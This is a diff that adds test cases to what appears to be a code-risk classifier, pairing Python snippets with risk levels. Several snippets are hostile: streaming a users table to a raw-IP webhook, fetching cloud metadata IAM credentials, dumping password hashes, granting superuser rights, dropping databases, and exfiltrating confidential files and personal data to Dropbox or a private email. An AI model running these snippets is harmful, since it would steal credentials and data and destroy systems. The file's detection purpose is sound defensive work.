@@ -15924,6 +15924,195 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '            out.write(name + "\\n")\n',
             S,
         ),
+        # Round 93 (holdout656-663): distributed SQL, Helix, managed clusters, own databases, people's rows by alias
+        (
+            'import psycopg\n'
+            'with psycopg.connect("postgresql://root@db.corp:26257/defaultdb") as c:\n'
+            '    c.execute("GRANT admin TO report_bot")\n',
+            H,
+        ),
+        (
+            'import psycopg\n'
+            'with psycopg.connect("postgresql://root@db.corp:26257/defaultdb") as c:\n'
+            '    c.execute("GRANT analyst_ro TO metabase")\n',
+            S,
+        ),
+        (
+            'import psycopg2\n'
+            'conn = psycopg2.connect(DSN)\n'
+            'conn.cursor().execute("GRANT pg_execute_server_program TO etl")\n',
+            H,
+        ),
+        (
+            'import psycopg\n'
+            'hook = "webhook-https://198.51.100.9:443/in"\n'
+            'with psycopg.connect(URL) as c:\n'
+            '    c.execute(f"CREATE CHANGEFEED FOR TABLE shop.public.users INTO \'{hook}\' WITH updated")\n',
+            H,
+        ),
+        (
+            'import psycopg\n'
+            'with psycopg.connect(URL) as c:\n'
+            '    c.execute("CREATE CHANGEFEED FOR TABLE shop.public.orders INTO \'kafka://kafka-0.data.interna'
+            'l:9092\'")\n',
+            S,
+        ),
+        (
+            'import psycopg\n'
+            'with psycopg.connect(URL) as c:\n'
+            '    c.execute("IMPORT INTO t (line) CSV DATA (\'http://169.254.169.254/latest/meta-data/iam/secur'
+            'ity-credentials/role\')")\n',
+            H,
+        ),
+        (
+            'import psycopg\n'
+            'with psycopg.connect(URL) as c:\n'
+            "    rows = c.execute('SELECT rolname, rolpassword FROM pg_authid').fetchall()\n"
+            'print(rows)\n',
+            H,
+        ),
+        (
+            'import subprocess, json\n'
+            'ids = [str(n["id"]) for n in json.loads(subprocess.check_output(["cockroach", "node", "status", '
+            '"--format=json"]))]\n'
+            'subprocess.run(["cockroach", "node", "decommission", *ids, "--wait=none"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["cockroach", "node", "decommission", "4", "--wait=all"], check=True)\n',
+            L,
+        ),
+        (
+            'import psycopg\n'
+            'with psycopg.connect(URL) as c:\n'
+            '    c.execute("ALTER TABLE ev SPLIT AT SELECT generate_series(1, 200000)")\n',
+            H,
+        ),
+        (
+            'import psycopg\n'
+            'with psycopg.connect(URL, autocommit=True) as c:\n'
+            '    c.execute("RESTORE DATABASE shop FROM LATEST IN \'s3://b/p?AUTH=implicit\' WITH new_db_name = '
+            '\'shop_check\'")\n'
+            '    c.execute("DROP DATABASE shop_check CASCADE")\n',
+            M,
+        ),
+        (
+            'import psycopg\n'
+            'with psycopg.connect(URL, autocommit=True) as c:\n'
+            '    c.execute("DROP DATABASE shop CASCADE")\n',
+            H,
+        ),
+        (
+            'import psycopg, pytest\n'
+            'URL = "postgresql://root@localhost:26257/app_test"\n'
+            '@pytest.fixture(autouse=True)\n'
+            'def wipe():\n'
+            '    yield\n'
+            '    with psycopg.connect(URL) as c:\n'
+            '        for t in ("a", "b"):\n'
+            '            c.execute(f"TRUNCATE TABLE {t} CASCADE")\n',
+            M,
+        ),
+        (
+            'import os, psycopg\n'
+            'key = os.path.expanduser("~/.pg-certs/client.key")\n'
+            'with psycopg.connect(f"postgresql://app@db.corp:5432/shop?sslmode=verify-full&sslkey={key}") as '
+            'c:\n'
+            '    print(c.execute("SELECT 1").fetchone())\n',
+            S,
+        ),
+        (
+            'from P4 import P4\n'
+            'p4 = P4(); p4.connect()\n'
+            'spec = p4.fetch_protect()\n'
+            'spec["Protections"].append("super user * * //...")\n'
+            'p4.save_protect(spec)\n',
+            H,
+        ),
+        (
+            'from P4 import P4\n'
+            'p4 = P4(); p4.connect()\n'
+            'for line in p4.fetch_protect()["Protections"]:\n'
+            '    print(line)\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'for kv in ("security=0", "dm.password.minlength=0"):\n'
+            '    subprocess.run(["p4", "configure", "set", kv])\n',
+            H,
+        ),
+        (
+            'import glob, dropbox\n'
+            'dbx = dropbox.Dropbox(TOKEN)\n'
+            'for f in glob.glob("/mnt/share/confidential/**/*.pdf", recursive=True):\n'
+            '    with open(f, "rb") as fh:\n'
+            '        dbx.files_upload(fh.read(), "/x/" + f.split("/")[-1])\n',
+            C,
+        ),
+        (
+            'import sqlite3, smtplib\n'
+            'from email.message import EmailMessage\n'
+            'rows = sqlite3.connect("m.db").execute("select a.full_name, a.email, b.full_name, b.email from p'
+            'airs p join people a on a.id = p.x join people b on b.id = p.y").fetchall()\n'
+            'm = EmailMessage(); m["To"] = "me.private@gmail.com"; m.set_content(str(rows))\n'
+            'with smtplib.SMTP_SSL("smtp.gmail.com", 465) as s:\n'
+            '    s.send_message(m)\n',
+            C,
+        ),
+        (
+            'import datetime, pathlib\n'
+            'd = pathlib.Path("/srv/app/backups")\n'
+            'cutoff = datetime.date.today() - datetime.timedelta(days=30)\n'
+            'for old in d.glob("db-*.sqlite"):\n'
+            '    if datetime.date.fromisoformat(old.stem[3:]) < cutoff:\n'
+            '        old.unlink()\n',
+            M,
+        ),
+        (
+            'from azure.mgmt.containerservice import ContainerServiceClient\n'
+            'aks = ContainerServiceClient(cred, sub)\n'
+            'for mc in aks.managed_clusters.list():\n'
+            '    aks.managed_clusters.begin_stop(mc.id.split("/")[4], mc.name)\n',
+            H,
+        ),
+        (
+            'from azure.mgmt.containerservice.models import AgentPool\n'
+            'pool = AgentPool(count=250, vm_size="Standard_ND96asr_v4")\n'
+            'aks.agent_pools.begin_create_or_update("rg", "aks", "gpu", pool)\n',
+            H,
+        ),
+        (
+            'from azure.mgmt.containerservice.models import AgentPool\n'
+            'pool = AgentPool(count=3, vm_size="Standard_D4s_v5")\n'
+            'aks.agent_pools.begin_create_or_update("rg", "aks", "np1", pool)\n',
+            S,
+        ),
+        (
+            'import os\n'
+            'os.system("gcloud container clusters update prod --zone z --enable-legacy-authorization")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            's = requests.Session()\n'
+            'u = s.post(f"{R}/users", json={"username": "x", "password": "p"}).json()\n'
+            's.post(f"{R}/globalrolebindings", json={"globalRoleId": "admin", "userId": u["id"]})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'base = "https://druid.corp/druid-ext/basic-security"\n'
+            'requests.post(f"{base}/authorization/db/basic/users/bot/roles/admin", auth=AUTH)\n',
+            H,
+        ),
+        (
+            'import os, yaml\n'
+            'with open(os.path.expanduser("~/.kube/staging.yaml"), "w") as fh:\n'
+            '    yaml.safe_dump(cfg, fh)\n',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
